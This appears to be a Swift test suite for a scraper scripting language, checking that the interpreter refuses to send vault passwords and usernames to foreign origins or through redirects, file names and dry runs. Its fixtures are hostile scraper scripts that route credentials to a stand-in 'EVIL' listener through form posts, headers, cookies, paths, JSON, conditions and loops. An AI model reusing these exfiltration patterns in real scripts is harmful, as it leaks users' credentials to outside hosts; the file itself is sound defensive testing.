import Foundation
import NightjarCore
import NightjarHTTP
import NightjarSandbox
import Testing

@testable import NightjarScript

/// Hostile definitions try to get a vault value to a foreign listener on loopback; it must
/// receive nothing. The definitions are parsed but not checked, so the interpreter's own
/// refusal is what is tested (the checker catches most of them earlier).
@Suite struct OriginBindingTests {
    /// A listener that counts what reaches it.
    static func foreign() throws -> SandboxServer {
        try SandboxServer { _ in .text("thanks") }
    }

    static func hostile(_ body: String, foreign: SandboxServer, portals: SandboxPortals) throws -> ScraperDefinition {
        let text = """
            portal sandbox-html-portal "Hostile"
            origin main "https://suppliers.sandbox-html-portal.example"
            origin evil "\(foreign.url(""))"
            \(body)
            """
        return try ScraperParser.parse(text, file: "hostile.scraper")
    }

    static let hostileBodies: [(String, String)] = [
        (
            "a direct post elsewhere",
            """
            remittances {
              post "EVIL/steal" form { p: vault.password }
              download get "/x" kind remittance
            }
            """
        ),
        (
            "a value laundered through let, filters, string operations and a regex",
            """
            remittances {
              let a = vault.password | lower | upper | replace "Q" "q"
              let b = "prefix-" + a
              let c = regex(b, "prefix-(.*)") | first
              let d = c | base64 | trim
              get "EVIL/pixel.gif" query { v: d }
              download get "/x" kind remittance
            }
            """
        ),
        (
            "a value carried by a condition",
            """
            remittances {
              if vault.password == "guess" {
                get "EVIL/yes"
              } else {
                get "EVIL/no"
              }
              download get "/x" kind remittance
            }
            """
        ),
        (
            "a value carried by a loop over it",
            """
            remittances {
              for ch in vault.password | split "" {
                get "EVIL/char"
              }
              download get "/x" kind remittance
            }
            """
        ),
        (
            "a value placed in a cookie",
            """
            remittances {
              cookie sid = vault.username
              get "EVIL/cookie-jar"
              download get "/x" kind remittance
            }
            """
        ),
        (
            "a value in a header",
            """
            remittances {
              get "EVIL/h" headers { X-Token: "Basic ${vault.username | base64}" }
              download get "/x" kind remittance
            }
            """
        ),
        (
            "a value in the path",
            """
            remittances {
              get "EVIL/u/${vault.username}"
              download get "/x" kind remittance
            }
            """
        ),
        (
            "a value in a JSON body",
            """
            remittances {
              post "EVIL/api" json { nested: { list: [vault.password] } }
              download get "/x" kind remittance
            }
            """
        ),
        (
            "a value learnt from the answer to a login",
            """
            login {
              get "/login"
              let token = xpath "//input[@name='__RequestVerificationToken']/@value"
              post "/login" form { UserName: vault.username, Password: vault.password, __RequestVerificationToken: token }
              let echoed = header "Location"
            }
            remittances {
              get "EVIL/${echoed}"
              download get "/x" kind remittance
            }
            """
        ),
    ]

    @Test(arguments: 0..<OriginBindingTests.hostileBodies.count)
    func aHostileDefinitionSendsNothingToAForeignOrigin(index: Int) async throws {
        let portals = try SandboxPortals()
        defer { portals.stop() }
        let listener = try OriginBindingTests.foreign()
        defer { listener.stop() }
        let (name, body) = OriginBindingTests.hostileBodies[index]
        let definition = try OriginBindingTests.hostile(
            body.replacingOccurrences(of: "EVIL", with: listener.url("")), foreign: listener, portals: portals)
        let outcome = await ScriptTestSupport.run(
            definition, portals: portals, client: "acme", portal: "sandbox-html-portal",
            originOverrides: ["main": portals.origins["sandbox-html-portal"]!])
        #expect(outcome.failure?.failureClass == .originRefused, "\(name): \(outcome.failure?.message ?? "no failure")")
        #expect(listener.requestCount == 0, "\(name)")
    }

    @Test func theCheckerSeesLaunderedValuesAndPublicOrigins() throws {
        let text = """
            portal x "X"
            origin main "https://a.example"
            origin cdn "https://cdn.example" public
            remittances {
              let a = vault.password | lower
              let b = "x" + a
              if b == "y" { get "/z" via cdn }
              download get "/f" kind remittance
            }
            """
        let errors = ScraperChecker.check(try ScraperParser.parse(text, file: "x"))
        #expect(
            errors.map(\.problem) == ["this request would send a vault value to origin `cdn`, which is marked public"])
    }

    @Test func aRedirectOfACredentialRequestIsNeverFollowed() async throws {
        let portals = try SandboxPortals()
        defer { portals.stop() }
        let listener = try OriginBindingTests.foreign()
        defer { listener.stop() }
        for status in [307, 308, 302] {
            let bouncer = try SandboxServer { _ in .redirect(listener.url("/collect"), status: status) }
            defer { bouncer.stop() }
            let text = """
                portal sandbox-html-portal "Bouncer"
                origin main "https://portal.example"
                login {
                  post "/login" form { user: vault.username, pass: vault.password }
                  expect status \(status)
                }
                remittances {
                  download get "/file" kind remittance
                }
                """
            let definition = try ScraperParser.parse(text, file: "bouncer.scraper")
            let credential = ScriptTestSupport.credential(
                portals, client: "acme", portal: "sandbox-html-portal", allowed: [bouncer.url("")])
            let outcome = await ScriptTestSupport.run(
                definition, portals: portals, client: "acme", credential: credential,
                originOverrides: ["main": bouncer.url("")])
            // The login's answer is the redirect itself; then the download (carrying no secret) may be redirected to the
            // foreign listener by the bouncer, which is refused because that origin is not the definition's.
            #expect(outcome.failure != nil)
            #expect(listener.requestCount == 0, "HTTP \(status)")
        }
    }

    @Test func aCredentialWithNoOriginsMayBeSentNowhere() async throws {
        let portals = try SandboxPortals()
        defer { portals.stop() }
        let credential = ScriptTestSupport.credential(
            portals, client: "acme", portal: "sandbox-html-portal", allowed: [])
        let outcome = await ScriptTestSupport.run(
            try ScriptTestSupport.shipped("sandbox-html-portal"), portals: portals, client: "acme",
            credential: credential)
        #expect(outcome.failure?.failureClass == .originRefused)
        #expect(
            portals.failedLogins(
                portal: "sandbox-html-portal",
                username: portals.data.account(client: "acme", portal: "sandbox-html-portal")!.username) == 0)
    }

    @Test func aCredentialBoundElsewhereIsRefusedEvenWhereTheDefinitionPoints() async throws {
        let portals = try SandboxPortals()
        defer { portals.stop() }
        let credential = ScriptTestSupport.credential(
            portals, client: "acme", portal: "sandbox-html-portal",
            allowed: ["https://suppliers.sandbox-html-portal.example"])
        let outcome = await ScriptTestSupport.run(
            try ScriptTestSupport.shipped("sandbox-html-portal"), portals: portals, client: "acme",
            credential: credential)
        #expect(outcome.failure?.failureClass == .originRefused)
        #expect(outcome.failure?.problem.contains("does not allow") == true)
    }

    @Test func aFileNameMayNotCarryAVaultValue() async throws {
        let portals = try SandboxPortals()
        defer { portals.stop() }
        let text = """
            portal sandbox-html-portal "N"
            origin main "https://suppliers.sandbox-html-portal.example"
            remittances {
              let n = vault.username | upper
              download get "/login" kind remittance name "r-${n}.csv"
            }
            """
        let outcome = await ScriptTestSupport.run(
            try ScraperParser.parse(text, file: "n"), portals: portals, client: "acme")
        #expect(outcome.failure?.failureClass == .originRefused)
        #expect(outcome.failure?.problem == "a file name may not carry a vault-derived value")
    }

    @Test func aDryRunSendsNothingAndShowsNoSecret() async throws {
        let portals = try SandboxPortals()
        defer { portals.stop() }
        let account = portals.data.account(client: "acme", portal: "sandbox-totp-portal")!
        _ = Redactor.shared.register(text: account.password)
        let lines = Lines()
        let outcome = await ScriptTestSupport.run(
            try ScriptTestSupport.shipped("sandbox-totp-portal"), portals: portals, client: "acme", dryRun: true,
            lines: lines)
        #expect(outcome.failure == nil)
        #expect(outcome.requests == 0)
        #expect(portals.totpPortal.requestCount == 0)
        let text = lines.all.joined(separator: "\n")
        #expect(text.contains("would send (line 13): POST \(portals.origins["sandbox-totp-portal"]!)/signin"))
        #expect(text.contains("would send (line 31): GET \(portals.origins["sandbox-totp-portal"]!)/remittances"))
        #expect(text.contains("would save a remittance"))
        #expect(!text.contains(account.password))
        #expect(text.contains(Redactor.marker))
    }
}
